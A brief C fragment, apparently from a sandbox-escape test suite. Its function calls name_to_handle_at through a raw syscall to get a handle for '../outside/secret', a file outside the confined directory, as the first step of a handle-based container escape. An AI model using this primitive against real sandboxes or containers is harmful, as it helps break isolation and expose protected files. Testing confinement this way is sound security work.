/* Getting a handle for the outside file. */
#define RAW_ONLY
#include "escape.h"

static long via_raw(char **arg) {
  (void)arg;
  struct {
    uint32_t bytes;
    int32_t type;
    unsigned char data[128];
  } h = {128, 0, {0}};
  int mount_id;
  return sys6(NR_name_to_handle_at, GRANT, (long)"../outside/secret", (long)&h, (long)&mount_id, 0, 0);
}
